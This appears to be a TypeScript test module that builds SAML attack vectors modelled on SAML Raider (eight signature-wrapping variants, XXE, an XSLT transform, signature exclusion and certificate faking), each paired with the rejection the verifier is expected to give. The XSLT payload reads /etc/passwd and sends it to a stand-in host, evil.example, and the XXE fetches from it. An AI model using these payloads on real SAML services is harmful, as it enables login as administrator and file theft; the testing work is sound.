import { createPrivateKey, generateKeyPairSync, X509Certificate } from 'node:crypto'
import { selfSignedCertificate } from '../../src/keys/self-signed-certificate.ts'
import { assertion20, keyInfoOf, named, response20, type Signer, signatureFor, signed, unsigned, usualTransforms } from '../saml/forge.ts'
import { respond, toAdmin, type Vector } from './saml-material.ts'

const evilUrl = 'https://evil.example'
const as = (id: string, xml: string) => xml.replace('ID="_trusted"', `ID="${id}"`)
const into = (element: string, xml: string, inside: string) =>
  xml.replace(new RegExp(`</${element}>(?!.*</${element}>)`, 's'), `${inside}</${element}>`)

/**
 * The attacks of SAML Raider, made as it makes them: the eight wrappings out of a Response that the partner signed or whose assertion he
 * signed, and its four others. Wherever it has a choice, what is evil names the administrator.
 */
export function raids(signer: Signer): Record<string, Vector> {
  const assertion = assertion20({ id: '_trusted' })
  const signature = signatureFor(assertion, signer, { keyInfo: keyInfoOf(signer) })
  const trusted = assertion.before + signature + assertion.after
  const bare = unsigned(assertion)
  const evil = as('_evil_assertion_ID', toAdmin(bare))
  const evilSigned = as('_evil_assertion_ID', toAdmin(trusted))

  const response = response20(bare)
  const responseSignature = signatureFor(response, signer)
  const evilResponse = (sign: string) =>
    (response.before + sign + toAdmin(response.after)).replace(`ID="${response.id}"`, 'ID="_evil_response_ID"')

  const faker = fakeOf(signer)
  const twoAssertions = /there is another assertion/
  return {
    XSW1: [evilResponse(into('ds:Signature', responseSignature, unsigned(response))), /an ID is there twice/],
    XSW2: [evilResponse(unsigned(response) + responseSignature), /an ID is there twice/],
    XSW3: [respond(evil + trusted), twoAssertions],
    XSW4: [respond(into('saml:Assertion', evil, trusted)), twoAssertions],
    XSW5: [respond(evilSigned + bare), twoAssertions],
    XSW6: [respond(evilSigned.replace('</ds:Signature>', `${bare}</ds:Signature>`)), twoAssertions],
    XSW7: [respond(`<samlp:Extensions>${evil}</samlp:Extensions>${trusted}`), twoAssertions],
    XSW8: [respond(evilSigned.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`)), twoAssertions],
    XXE: [`<!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "${evilUrl}/x"> %xxe; ]>${respond(trusted)}`, /a document type/],
    XSLT: [respond(signed(assertion, signer, { transforms: stylesheet() + usualTransforms })), /its Transforms is not as SAML has it/],
    'signature exclusion': [respond(toAdmin(bare)), /not signed/],
    'certificate faking': [
      respond(signed({ ...assertion, after: toAdmin(assertion.after) }, faker, { keyInfo: keyInfoOf(faker) })),
      /signature of the token is not valid/,
    ],
    'certificate faking, of a Response': [
      signed(response20(toAdmin(bare)), faker, { keyInfo: keyInfoOf(faker) }),
      /signature of the token is not valid/,
    ],
  }
}

function stylesheet(): string {
  const read = `<xsl:variable name="file" select="unparsed-text('/etc/passwd')"></xsl:variable><xsl:value-of select="unparsed-text(concat('${evilUrl}/',encode-for-uri($file)))"></xsl:value-of>`
  const sheet = `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="2.0"><xsl:template match="doc">${read}</xsl:template></xsl:stylesheet>`
  return named('Transform', 'http://www.w3.org/TR/1999/REC-xslt-19991116', sheet)
}

/** A key of the attacker's with a certificate that says what the trusted one says. */
function fakeOf({ certificate }: Signer): Signer {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const original = new X509Certificate(certificate)
  const commonName = original.subject.replace(/^CN=/, '')
  const fake = new X509Certificate(selfSignedCertificate(privateKey, { commonName, notBefore: new Date(original.validFrom), days: 3650 }))
  const keyPem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
  return { keyPem, privateKey: createPrivateKey(keyPem), certificate: fake.toString() }
}
